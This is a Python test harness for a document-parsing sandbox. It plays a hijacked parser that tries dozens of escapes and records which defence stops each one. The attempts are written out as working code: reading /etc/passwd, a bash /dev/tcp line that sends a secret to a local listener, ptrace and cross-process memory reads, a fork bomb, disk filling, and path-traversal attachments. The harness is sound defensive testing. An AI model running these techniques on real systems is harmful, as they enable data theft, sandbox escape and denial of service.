"""A parser that a hostile file has taken over: each way out that it tries, and what stops it.

Run by a pool in place of ``indexing.parsing.child``: the file that it "reads" names the escape and its targets, and
what it answers tells how far it got. The table is also in docs/jail.md; a test compares the two.
"""

# ruff: noqa: E501, PTH101, PTH102, PTH104, PTH108, PTH208 -- a row of the table is one line; and it is the system calls that are tried
from __future__ import annotations

import array
import ctypes
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import subprocess
import sys
import time
from dataclasses import dataclass
from errno import errorcode
from pathlib import Path
from typing import TYPE_CHECKING, Any

from indexing.documents import Attachment, Block, Parsed
from indexing.parsing import child
from indexing.parsing.seccomp import REFUSED

if TYPE_CHECKING:
    from collections.abc import Callable

    from indexing.parsing.job import Job

LIMITS, NETWORK, FILES, CALLS, POOL = "limits", "network", "files", "calls", "pool"
Targets = dict[str, Any]


@dataclass(frozen=True)
class Escape:
    """One way out. ``stopped_by``: the layers of which each stops it alone. ``open_without``: it works with the limits
    alone, for whoever runs the tests; False where root, a setting of the kernel or its version decides that."""

    tries: str
    run: Callable[[Targets], Any]
    stopped_by: tuple[str, ...]
    open_without: bool = True


def call(name: str, *arguments: Any) -> int:
    number = REFUSED[name][0 if platform.machine() == "x86_64" else 1]
    result = ctypes.CDLL(None, use_errno=True).syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return int(result)


def memory_of(t: Targets) -> bytes:
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 8)
    remote = (ctypes.c_void_p * 2)(t["address"], 8)
    call("process_vm_readv", t["victim"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw


def send(family: int, kind: int, address: Any) -> str:
    with socket.socket(family, kind) as opened:
        opened.settimeout(1)
        if kind == socket.SOCK_DGRAM:
            opened.sendto(b"secret", address)
        else:
            opened.connect(address)
            opened.sendall(b"secret")
    return "sent"


def program(*command: str) -> bytes:
    done = subprocess.run(command, capture_output=True, check=False)
    if done.returncode != 0:
        raise PermissionError(1, done.stderr.decode()[-200:])
    return done.stdout


def through_link(t: Targets, link: Callable[[str, str], None]) -> bytes:
    link(t["catalog"], "mine")
    try:
        return Path("mine").read_bytes()
    finally:
        Path("mine").unlink()


def inherited(t: Targets) -> list[int]:
    def is_file(number: int) -> bool:
        try:
            return stat.S_ISREG(os.fstat(number).st_mode) and b"secret" in os.pread(number, 100, 0)
        except OSError:
            return False

    if not (found := [number for number in range(3, 256) if is_file(number)]):
        raise PermissionError(1, "nothing was inherited")
    return found


def environment(t: Targets) -> dict[str, str]:
    found = {name: value for name, value in os.environ.items() if "hidden" in value}
    if not found:
        raise PermissionError(1, "nothing in the environment")
    return found


def signal_through_a_pipe(t: Targets) -> str:
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, t["parent"])
    finally:
        os.close(read)
        os.close(write)
    return "it would be signalled"


def write(path: str) -> str:
    Path(path).write_bytes(b"evil")
    Path(path).unlink()
    return path


def fork_bomb(t: Targets) -> str:
    while True:
        try:
            if os.fork() == 0:
                time.sleep(0.05)
        except OSError:
            time.sleep(0.05)


def answer_pipe() -> int:
    for number in range(3, 20):
        try:
            found = os.fstat(number)
            if stat.S_ISFIFO(found.st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return number
        except OSError:
            continue
    raise AssertionError("no pipe to the pool")


def endless(t: Targets) -> None:
    pipe = answer_pipe()
    while True:
        os.write(pipe, b"x" * 65536)


def dribble(t: Targets) -> None:
    pipe = answer_pipe()
    while True:
        os.write(pipe, b"x")
        time.sleep(0.001)


def say(text: bytes) -> Callable[[Targets], None]:
    def run(t: Targets) -> None:
        os.write(answer_pipe(), text + b"\n")
        time.sleep(60)

    return run


def close_pipes(t: Targets) -> None:
    for number in range(256):
        if number > 2:
            try:
                os.close(number)
            except OSError:
                continue
    time.sleep(60)


def ignore_signals(t: Targets) -> None:
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    time.sleep(60)


def fill_disk(t: Targets) -> None:
    number = 0
    while True:
        Path(f"{number}.bin").write_bytes(bytes(1 << 20))
        number += 1


def many_files(t: Targets) -> None:
    number = 0
    while True:
        Path(f"{number}.empty").touch()
        number += 1


def deep_folders(t: Targets) -> str:
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")
    os._exit(3)


def attached(make: Callable[[Targets, Path], Path]) -> Callable[[Targets], Parsed]:
    def run(t: Targets) -> Parsed:
        return Parsed((), attachments=(Attachment("../../../evil", make(t, Path(t["out"]))),))

    return run


def linked(t: Targets, out: Path) -> Path:
    try:
        (out / "a").symlink_to(t["catalog"])
    except PermissionError:  # the files layer was quicker: then without the link
        return out / "a"
    return out / "a"


def fifo(t: Targets, out: Path) -> Path:
    try:
        os.mkfifo(out / "a")
    except PermissionError:
        return out / "a"
    return out / "a"


def daemonise(t: Targets) -> str:
    os.setsid()
    return "a session of its own"


def map_shared(t: Targets) -> str:
    identity = call("shmget", t["shared_key"], 4096, 0)
    return f"segment {identity}"


def two_gigabytes(t: Targets) -> int:
    with mmap.mmap(-1, 8 << 30) as mapped:
        return len(mapped)


def huge_file(t: Targets) -> str:
    with Path("huge").open("wb") as file:
        file.truncate(400 << 20)
    Path("huge").unlink()
    return "400 MB"


#: Tried at once; each answers whether it got through.
ESCAPES: dict[str, Escape] = {
    e.tries: e
    for e in (
        Escape("read the catalog", lambda t: Path(t["catalog"]).read_bytes(), (FILES,)),
        Escape("write the catalog", lambda t: Path(t["catalog"]).open("r+b").close(), (FILES,)),
        Escape("read another document", lambda t: Path(t["document"]).read_bytes(), (FILES,)),
        Escape("list the folder of documents", lambda t: os.listdir(t["folder"]), (FILES,)),
        Escape("delete another document", lambda t: os.unlink(t["expendable"]), (FILES,)),
        Escape("rename another document", lambda t: os.rename(t["expendable"], t["expendable"]), (FILES,), False),
        Escape("read /etc/passwd", lambda t: Path("/etc/passwd").read_bytes(), (FILES,)),
        Escape("write beside its directory (../..)", lambda t: write("../../escape-" + t["token"]), (FILES,)),
        Escape("write into the folder of documents", lambda t: write(t["folder"] + "/evil"), (FILES,)),
        Escape("change the file that it was handed", lambda t: write(t["path"]), (FILES,)),
        Escape("make a file in the inbox", lambda t: write(t["path"] + "x"), (FILES,)),
        Escape("a symbolic link to the catalog", lambda t: through_link(t, os.symlink), (FILES,)),
        Escape("a hard link to the catalog", lambda t: through_link(t, os.link), (FILES,)),
        Escape("a shell that reads a document", lambda t: program("/bin/cat", t["document"]), (FILES,)),
        Escape("open a terminal", lambda t: os.close(os.open("/dev/ptmx", os.O_RDWR)), (FILES,), False),
        Escape("open /dev/mem", lambda t: Path("/dev/mem").open("rb").close(), (LIMITS, FILES), False),
        Escape("make documents readable for all (chmod)", lambda t: os.chmod(t["document"], 0o644), (CALLS,)),
        Escape("change a document's owner (chown)", lambda t: os.chown(t["document"], -1, os.getgid()), (CALLS,)),
        Escape("set a document's time", lambda t: os.utime(t["document"], (1, 1)), (CALLS,)),
        Escape("watch the folder of documents (inotify)", lambda t: os.close(call("inotify_init1", 0)), (CALLS,)),
        Escape("read the service's environment", lambda t: Path(f"/proc/{t['parent']}/environ").read_bytes(), (FILES,), False),
        Escape("read the service's memory", lambda t: Path(f"/proc/{t['parent']}/mem").open("rb").close(), (FILES,), False),
        Escape("read another process's memory (process_vm_readv)", memory_of, (CALLS,), False),
        Escape("trace another process (ptrace)", lambda t: call("ptrace", 0x4206, t["victim"], 0, 0), (CALLS,), False),
        Escape("signal the service", lambda t: os.kill(t["parent"], 0), (FILES, CALLS)),
        Escape("signal another process of the same user", lambda t: os.kill(t["victim"], 0), (FILES,)),
        Escape("signal everything (kill -1)", lambda t: os.kill(-1, 0), (CALLS,), False),
        Escape("signal the service through a pipe (F_SETOWN)", signal_through_a_pipe, (CALLS,)),
        Escape("reach the service through pidfd", lambda t: os.close(call("pidfd_open", t["parent"], 0)), (CALLS,)),
        Escape("lower the service's limits (prlimit)", lambda t: resource.prlimit(t["parent"], resource.RLIMIT_CORE), (CALLS,)),
        Escape("slow the service down (setpriority)", lambda t: os.setpriority(os.PRIO_PROCESS, os.getpid(), 19), (CALLS,)),
        Escape("connect by TCP", lambda t: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", t["tcp"])), (NETWORK, FILES, CALLS)),
        Escape("connect by TCP over IPv6", lambda t: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", t["tcp6"])), (NETWORK, FILES, CALLS)),
        Escape("send by UDP", lambda t: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", t["udp"])), (NETWORK, CALLS)),
        Escape("a shell that connects", lambda t: program("/bin/bash", "-c", f"echo secret > /dev/tcp/127.0.0.1/{t['tcp']}"), (NETWORK, FILES, CALLS)),
        Escape("connect to a Unix socket (a database, Docker)", lambda t: send(socket.AF_UNIX, socket.SOCK_STREAM, t["unix"]), (CALLS,)),
        Escape("connect to an abstract Unix socket", lambda t: send(socket.AF_UNIX, socket.SOCK_STREAM, t["abstract"]), (NETWORK, FILES, CALLS)),
        Escape("send to a Unix datagram socket (the log)", lambda t: send(socket.AF_UNIX, socket.SOCK_DGRAM, t["log"]), (CALLS,)),
        Escape("ask the kernel for interfaces (netlink)", lambda t: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close(), (CALLS,)),
        Escape("a raw socket", lambda t: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close(), (LIMITS, CALLS)),
        Escape("a packet socket", lambda t: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(), (LIMITS, CALLS)),
        Escape("sockets past the filter (io_uring)", lambda t: os.close(call("io_uring_setup", 1, ctypes.create_string_buffer(120))), (CALLS,), False),
        Escape("shared memory of the service (shmget)", map_shared, (NETWORK, CALLS)),
        Escape("keys of the user (keyctl)", lambda t: call("keyctl", 0, -4, 0), (CALLS,), False),
        Escape("mount something", lambda t: call("mount", b"none", b"/tmp", b"tmpfs", 0, None), (LIMITS, CALLS)),
        Escape("a new user namespace (unshare)", lambda t: call("unshare", 0x10000000), (CALLS,), False),
        Escape("another root (chroot)", lambda t: os.chroot("."), (LIMITS, CALLS)),
        Escape("make a device (mknod)", lambda t: os.mknod("device", 0o600 | stat.S_IFBLK, os.makedev(8, 0)), (LIMITS, FILES)),
        Escape("load a program into the kernel (bpf)", lambda t: call("bpf", 0, array.array("Q", [0] * 16).buffer_info()[0], 128), (CALLS,), False),
        Escape("watch the machine (perf_event_open)", lambda t: call("perf_event_open", None, 0, -1, -1, 0), (CALLS,), False),
        Escape("rename the machine (sethostname)", lambda t: call("sethostname", b"evil", 4), (LIMITS, CALLS)),
        Escape("leave the process group (setsid)", daemonise, (CALLS,)),
        Escape("leave the process group (setpgid)", lambda t: os.setpgid(0, 0), (CALLS,)),
        Escape("raise its own limits", lambda t: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)), (LIMITS,)),
        Escape("map more memory than it may", two_gigabytes, (LIMITS,)),
        Escape("write a file larger than it may", huge_file, (LIMITS,)),
        Escape("read what the service has open", inherited, (LIMITS,)),
        Escape("find a secret in its own environment", environment, (LIMITS,)),
    )
}  # fmt: skip
#: Tried until the pool ends them, or refuses what they answer.
SIEGES: dict[str, Escape] = {
    e.tries: e
    for e in (
        Escape("a fork bomb", fork_bomb, (POOL,)),
        Escape("fill the disk", fill_disk, (POOL,)),
        Escape("use up the file system's entries", many_files, (POOL,)),
        Escape("folders too deep to remove", deep_folders, (POOL,)),
        Escape("answer without end", endless, (POOL,)),
        Escape("answer a byte at a time, for ever", dribble, (POOL,)),
        Escape("answer nonsense", say(b"nonsense"), (POOL,)),
        Escape("answer JSON nested a million deep", say(b"[" * 1_000_000), (POOL,)),
        Escape("answer an infinite page number", say(b'{"parsed": {"blocks": [["a", "text", Infinity, []]], "title": null, "attachments": [], "notes": []}}'), (POOL,)),
        Escape("answer numbers where text belongs", say(b'{"error": {"class": 1, "message": {}, "remedy": []}}'), (POOL,)),
        Escape("close the pipes and live on", close_pipes, (POOL,)),
        Escape("ignore every signal and wait", ignore_signals, (POOL,)),
        Escape("attach the catalog", attached(lambda t, out: Path(t["catalog"])), (POOL,)),
        Escape("attach the catalog by way of ..", attached(lambda t, out: out / ".." / ".." / ".." / t["catalog"]), (POOL,)),
        Escape("attach a link to the catalog", attached(linked), (POOL,)),
        Escape("attach a pipe, to hold the service up", attached(fifo), (POOL,)),
    )
}  # fmt: skip


def attempt(job: Job) -> Parsed:
    """Try the escape that the file names; return what came of it."""
    targets: Targets = json.loads(job.path.read_text()) | {"path": str(job.path), "out": str(job.workdir)}
    if (siege := SIEGES.get(targets["escape"])) is not None:
        got = siege.run(targets)
        return got if isinstance(got, Parsed) else Parsed((Block(f"escaped: {got}"),))
    read, write = os.pipe()
    if os.fork() == 0:  # what an escape does to its own process does not outlast it
        os.write(write, outcome(ESCAPES[targets["escape"]], targets).encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read, encoding="utf-8") as pipe:
        said = pipe.read()
    os.wait()
    return Parsed((Block(said or "the process died"),))


def outcome(escape: Escape, targets: Targets) -> str:
    try:
        got = escape.run(targets)
    except (OSError, MemoryError, ValueError) as exc:
        code = errorcode.get(exc.errno or 0, "") if isinstance(exc, OSError) else ""
        return f"stopped: {type(exc).__name__} {code} {exc}"
    return f"escaped: {str(got)[:200]}"


if __name__ == "__main__":
    child.main(attempt, sys.argv[1].split(","))
